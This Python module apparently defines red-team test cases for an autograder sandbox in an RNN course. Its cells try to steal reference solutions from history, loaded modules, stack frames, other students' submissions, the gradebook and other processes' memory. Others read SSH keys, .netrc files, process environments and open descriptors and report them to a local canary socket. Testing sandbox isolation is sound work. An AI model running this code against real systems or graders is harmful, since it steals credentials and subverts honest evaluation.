"""Looking for answers, and for what is nobody's business: the canary in files, environment and sockets."""

from .desk import SEVEN, TWO, answers, attack, both, runs

# what is found is told in every way there is
TELL = """
import os, socket, sys
def tell(*found):
    for text in found:
        text = text if isinstance(text, str) else bytes(text).decode("utf-8", "replace")
        print(text[-4000:]); print(text[-4000:], file=sys.stderr)
        for kind, place in ((socket.AF_INET, ("127.0.0.1", @PORT@)), (socket.AF_UNIX, "@SOCKET@".replace("%", chr(0)))):
            try:
                with socket.socket(kind) as line:
                    line.settimeout(1); line.connect(place); line.sendall(text[-200:].encode())
            except OSError:
                pass
    raise ValueError(" ".join(map(str, found))[-300:])
"""


def reads(expression, before=""):
    """A cell that tells what an expression finds."""
    return runs(TELL + before + f"\ntell(*[text for text in {expression}])")


def steals(search, names=("rnn_forward", "rnn_cell_forward"), **where):
    """A cell after which `found` holds texts or functions; each becomes the answer of the name that it has."""
    return runs(
        f"""
import glob, os, re, sys
import numpy as np
WANTED = {names!r}
found = []
{search}
for thing in found:
    for name in WANTED:
        try:
            if callable(thing) and getattr(thing, "__name__", "") == name:
                exec(f"def {{name}}(*a, f=thing, **k): return f(*a, **k)", dict(globals(), thing=thing), globals())
            elif isinstance(thing, str) and f"def {{name}}(" in thing:
                text = thing.encode().decode("unicode_escape") if "\\\\n" in thing else thing
                start = text.index(f"def {{name}}(")
                end = re.search(r'\\n(?=[^\\s#"])|"\\n', text[start:] + "\\n@").start() + start
                exec(text[start:end].replace("### BEGIN SOLUTION", ""), globals())
        except Exception as error:
            print(repr(error))
""",
        **where,
    )


def last(search, **options):
    """Such a cell behind the last check, where no stub undoes it."""
    return steals(search, after="count_rnn_parameters-check", **options)


TEXTS = "found = [open(p, errors='replace').read(1 << 20) for p in glob.glob({pattern!r}, recursive=True)[:200]]"
EVERYWHERE = """
import time
until = time.monotonic() + 8
for place in [os.getcwd(), *sys.path, "/"]:
    for folder, folders, files in os.walk(place):
        folders[:] = [f for f in folders if f not in ("proc", "sys", "dev", "numpy", "site-packages")]
        for name in files:
            if name.endswith((".py", ".ipynb", ".pyc")) and time.monotonic() < until:
                try:
                    text = open(os.path.join(folder, name), errors="replace").read(1 << 20)
                except OSError:
                    continue
                if "def rnn_forward(" in text and "NotImplementedError" not in text:
                    found.append(text)
"""
MODULES = """
import importlib, pkgutil
import utils
for module in pkgutil.walk_packages(utils.__path__, "utils.", onerror=lambda name: None):
    if "worker" in module.name or "__main__" in module.name:
        continue
    try:
        importlib.import_module(module.name)
    except BaseException:
        continue
for module in list(sys.modules.values()):
    for name in WANTED:
        thing = vars(module).get(name)
        if thing is not None and thing is not globals().get(name):
            found.append(thing)
"""
OBJECTS = """
import gc, types
found = [o for o in gc.get_objects() if isinstance(o, types.FunctionType) and o.__name__ in WANTED
         and o.__globals__ is not globals()]
for o in gc.get_objects():
    if type(o).__name__ == "Exercise" and o.name in WANTED:
        found += [o.reference, o.textbook]
"""
MEMORY = """
left = 256 << 20
for pid in [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()][:20]:
    try:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
            for line in maps:
                start, end = (int(n, 16) for n in line.split()[0].split("-"))
                if " rw" in line and end - start <= left and end - start < 64 << 20:
                    memory.seek(start)
                    text = memory.read(end - start)
                    left -= len(text)
                    at = text.find(b"def rnn_forward(")
                    if at >= 0:
                        found.append(text[at : at + 3000].decode(errors="replace"))
    except (OSError, ValueError, OverflowError):
        continue
"""
HISTORY = """
found = list(globals().get("In", []))
try:
    found += [text for *_, text in get_ipython().history_manager.search("*def rnn_forward*")]
except NameError:
    pass
found = [text for text in found if "NotImplementedError" not in text]
"""
FRAMES = """
def rnn_forward(x, a0, P):
    import sys
    frame = sys._getframe()
    while frame:
        for value in frame.f_locals.values():
            for thing in value if isinstance(value, list) else [value]:
                if hasattr(thing, "reference"):
                    return thing.reference(x, a0, P)
                if getattr(thing, "value", None) is not None and hasattr(thing, "stub"):
                    return thing.value
        frame = frame.f_back
"""
IMPORTED = "from utils.reference import rnn_forward"
COPIED = """
import types
from utils import reference
original = reference.rnn_forward
rnn_forward = types.FunctionType(original.__code__, original.__globals__, "rnn_forward")
rnn_forward.__module__ = "__main__"
"""
TEXTBOOK = """
import importlib
def rnn_forward(x, a0, P):
    for place in ("utils.reference", "utils.textbook", "utils.textbook.rnn", "utils.reference.rnn", "utils.torch_port"):
        try:
            return importlib.import_module(place).rnn_forward(x, a0, P)
        except (ImportError, AttributeError):
            pass
"""
EXERCISES = """
def rnn_forward(x, a0, P):
    from utils.checking.exercises import find
    return find("rnn_forward").reference(x, a0, P)
"""
MODELS = """
def lstm_forward(x, a0, c0, P):
    from utils.experiments.lesson_07 import gradient_errors
    return gradient_errors.__globals__["lstm_forward"](x, a0, c0, P)
"""
GRADEBOOK = """
import sqlite3
base = sqlite3.connect("file:@COURSE@/gradebook.db?mode=ro", uri=True)
found = [text for (text,) in base.execute("select source from source_cell") if text]
"""
# part B may hold the reference of part A; the other way round nothing may pass between the two sandboxes
NOTE = " ".join(f"{place}/note-of-a-student" for place in ("/tmp", "/dev/shm", "/var/tmp", "~", "."))
PUT = """
import inspect, os, socket
from utils import reference
text = "import numpy as np\\nfrom utils.reference import softmax, sigmoid\\n"
text += "\\n".join(inspect.getsource(getattr(reference, n)) for n in ("lstm_cell_forward", "lstm_forward"))
for place in "@NOTES@".split():
    try:
        open(os.path.expanduser(place), "w").write(text)
    except OSError:
        pass
""".replace("@NOTES@", NOTE)
GET = """
import os, time
for _ in range(20):
    for place in "@NOTES@".split():
        try:
            exec(open(os.path.expanduser(place)).read())
        except Exception:
            pass
    time.sleep(0.2)
""".replace("@NOTES@", NOTE)
LSTM = "lstm_forward-check"
SECRETS = """
import glob
def opened(paths):
    for path in paths:
        try:
            with open(os.path.expanduser(path), "rb") as file:
                yield file.read(1 << 16)
        except OSError:
            pass
def of_files():
    return opened("@COURSE@/secret.txt @HOME@/.ssh/id_rsa ~/.ssh/id_rsa @HOME@/.netrc ~/.netrc".split())
def of_processes():
    return opened(glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/root@COURSE@/secret.txt"))
def of_descriptors():
    for fd in range(3, 64):
        try:
            yield os.pread(fd, 1 << 16, 0)
        except OSError:
            pass
"""
TRAIN = """
def train_step(*a, **k):
    from utils import reference
    return reference.train_step(*a, **k)
"""
PEERS = "@COURSE@/submitted/*/*/*.ipynb"

ATTACKS = [
    attack("leaks-history", "answers out of In and the history", last(HISTORY)),
    attack("leaks-frames", "what is right stands in a frame above", answers(rnn_forward=FRAMES), quick=True),
    attack("leaks-gc", "functions and exercises among all objects", last(OBJECTS)),
    attack("leaks-modules", "every module of the course", last(MODULES)),
    attack("leaks-reference", "the reference is imported", answers(rnn_forward=IMPORTED)),
    attack("leaks-reference-copied", "the reference under a new name", answers(rnn_forward=COPIED), quick=True),
    attack("leaks-textbook", "the textbook, the torch port", answers(rnn_forward=TEXTBOOK)),
    attack("leaks-exercises", "the exercise's own reference", answers(rnn_forward=EXERCISES)),
    attack(
        "leaks-experiments",
        "the reference through an experiment that uses it",
        answers(lstm_forward=MODELS),
        lesson=SEVEN,
    ),
    attack("leaks-everywhere", "all files that can be read, for eight seconds", last(EVERYWHERE)),
    attack("leaks-solutions", "the solutions on disk", last(TEXTS.format(pattern="@ROOT@/solutions/*/*")), quick=True),
    attack("leaks-peers", "what others handed in", last(TEXTS.format(pattern=PEERS))),
    attack("leaks-graded", "what others were graded on", last(TEXTS.format(pattern="@COURSE@/autograded/*/*/*.ipynb"))),
    attack("leaks-own-disk", "notebooks in the folder and above", last(TEXTS.format(pattern="../**/*.ipynb"))),
    attack("leaks-gradebook", "the solutions in the gradebook", last(GRADEBOOK)),
    attack("leaks-memory", "the memory of other processes", last(MEMORY)),
    attack(
        "leaks-across-parts",
        "part B leaves a note for part A",
        both(runs(PUT, notebook=1), runs(GET, after=LSTM)),
        lesson=SEVEN,
    ),
    attack(
        "leaks-own-part",
        "a function of part B out of `utils`",
        answers(train_step=TRAIN),
        "update_parameters",
        lesson=TWO,
    ),
    attack("leaks-files", "secrets in the course and in the home", reads("of_files()", SECRETS), quick=True),
    attack("leaks-environment", "the environment", reads("map(str, os.environ.items())"), quick=True),
    attack("leaks-processes", "environments and roots of other processes", reads("of_processes()", SECRETS)),
    attack("leaks-descriptors", "descriptors that were left open", reads("of_descriptors()", SECRETS)),
    attack("leaks-network", "a connection to a server on this machine", reads("['from the student']"), quick=True),
]
